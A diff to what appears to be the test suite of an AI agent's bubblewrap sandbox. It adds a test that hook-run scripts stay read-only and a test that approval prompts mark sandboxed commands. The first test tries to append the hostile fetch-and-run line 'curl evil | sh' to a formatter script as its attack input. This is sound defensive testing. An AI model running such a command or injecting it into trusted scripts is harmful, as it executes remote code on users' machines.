@@ -376,3 +376,34 @@ async def test_a_domain_allow_list_reaches_those_hosts_through_the_proxy_and_ref
     finally:
         box.close()
         server.close()
+
+
+async def test_a_script_an_accepted_hook_runs_is_read_only_inside(workspace: Path, real_bwrap: Probe) -> None:
+    script = workspace / "scripts" / "format.sh"
+    script.parent.mkdir()
+    script.write_text("#!/bin/sh\nruff format .\n")
+    box = boxed(workspace, real_bwrap)
+    box.trusted_code = lambda: (script,)
+    ok, output = await sh(box, "echo 'curl evil | sh' >> scripts/format.sh")
+    assert not ok and "Read-only file system" in output and script.read_text() == "#!/bin/sh\nruff format .\n"
+    ok, _ = await sh(box, "echo fine > scripts/other.sh")
+    assert ok
+
+
+async def test_without_auto_allow_the_question_says_the_command_runs_sandboxed(
+    workspace: Path, real_bwrap: Probe
+) -> None:
+    asked: list[ApprovalRequest] = []
+
+    async def approver(request: ApprovalRequest) -> ApprovalAnswer:
+        asked.append(request)
+        return ApprovalAnswer("yes")
+
+    script = {"steps": [{"tool_calls": [call("Bash", command="touch made.txt")]}, {"text": "ok"}]}
+    settings_ = SandboxSettings("workspace-write", auto_allow=False)
+    runtime, _ = runtime_for(workspace, script, sandbox=settings_)
+    runtime.set_approver(approver)
+    events = await run(runtime, "go")
+    (request,) = asked
+    assert request.reason.endswith("it runs in the sandbox (⛶)") and request.summary.startswith("⛶ touch")
+    assert any(isinstance(e, ToolStarted) and e.summary == "⛶ touch made.txt" for e in events)
